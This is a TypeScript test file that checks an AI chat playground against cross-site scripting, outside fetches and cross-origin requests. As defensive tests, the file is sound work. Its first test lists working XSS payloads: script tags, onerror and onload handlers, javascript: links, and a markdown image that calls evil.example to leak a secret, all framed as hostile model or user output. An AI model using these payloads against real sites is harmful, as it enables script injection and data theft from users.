import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "vitest";
import { describePlayground } from "../../test/open-playground.ts";
import { say, scriptedModel } from "../../test/scripted-model.ts";
import { conversationId } from "../core/ids.ts";
import { localScope } from "./local-person.ts";

describePlayground("what is said in the playground", (open) => {
  test("hostile text of a model or a person is text: no script runs, nothing is fetched", async () => {
    const hostile = [
      "<script>globalThis.pwned = 1</script> <img src=x onerror='globalThis.pwned = 2'>",
      "[x](javascript:globalThis.pwned=3) [y](data:text/html,<script>alert(1)</script>)",
      "![](https://evil.example/leak?q=secret) <svg onload=alert(1)> <iframe srcdoc='<script>alert(1)</script>'>",
      "| <b onmouseover=alert(1)>a</b> |\n|---|\n| <img src=//evil.example/x> |",
      '```"><script>alert(1)</script>\n</code></pre><script>globalThis.pwned = 4</script>\n```',
      '[<img src=x onerror=alert(1)>](https://ok.example/"onmouseover="alert(1))',
    ].join("\n\n");
    await using opened = await open(scriptedModel([say(hostile)]));
    const { page, outside, complaints, ask, ended, answer } = opened;

    await ask(hostile);
    await ended(0);

    const forbidden = page
      .locator("#thread")
      .locator("script, img, svg, iframe, b, [onerror], [onload]");
    expect(await forbidden.count()).toBe(0);
    expect(await page.locator("#thread a:not([href^='https://'])").count()).toBe(0);
    expect(await page.evaluate("globalThis.pwned")).toBeUndefined();
    expect(await answer(0).textContent()).toContain("<script>globalThis.pwned = 1</script>");
    expect(outside).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("even if markup did get in, the browser would not run it", async () => {
    await using opened = await open(scriptedModel([]));
    const { page } = opened;

    const byMarkup = page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'");
    await expect(byMarkup).rejects.toThrow("TrustedHTML");
    const byScript = page.evaluate(
      "document.createElement('script').text = 'globalThis.pwned = 1'",
    );
    await expect(byScript).rejects.toThrow("TrustedScript");
    const byHandler = `
      const link = document.createElement("a");
      link.setAttribute("href", "javascript:globalThis.pwned = 1");
      document.body.append(link);
      link.click();`;
    await page.evaluate(byHandler);

    expect(await page.evaluate("globalThis.pwned")).toBeUndefined();
  });

  test("a link says where it leads, and the page there learns nothing of ours", async () => {
    await using opened = await open(scriptedModel([say("[our docs](https://docs.example/a).")]));
    const { page, ask, ended } = opened;

    await ask("Where is https://docs.example/a?");
    await ended(0);

    const link = page.getByRole("link", { name: "our docs" });
    expect(await link.getAttribute("title")).toBe("Leads to https://docs.example/a");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await link.getAttribute("target")).toBe("_blank");
  });

  test("a page of another site can neither ask nor listen", async () => {
    await using opened = await open(scriptedModel([]));
    const { page, url } = opened;
    const other = createServer((_, response) =>
      response.writeHead(200, { "Content-Type": "text/html" }).end("<title>other</title>"),
    );
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    const attempt = (path: string, options: object) =>
      page.evaluate(
        `fetch(${JSON.stringify(url + path)}, ${JSON.stringify(options)}).then(() => "answered", () => "refused")`,
      );
    const conversation = conversationId("web:0198f3a2");
    const body = JSON.stringify({ conversation, text: "Hi" });
    const headers = { "Content-Type": "application/json" };
    const messages = "api/playground/messages";
    const history = `api/playground/conversations/${conversation}/messages`;

    expect(await attempt(messages, { method: "POST", headers, body })).toBe("refused");
    expect(await attempt(messages, { method: "POST", mode: "no-cors", body })).toBe("refused");
    expect(await attempt(history, {})).toBe("refused");
    expect(await attempt(history, { mode: "no-cors" })).toBe("refused");
    const all = { limit: 10, upTo: null, after: null };
    expect(await opened.house.transcript.recent(localScope, conversation, all)).toEqual([]);

    await new Promise((resolve) => other.close(resolve));
  });
});
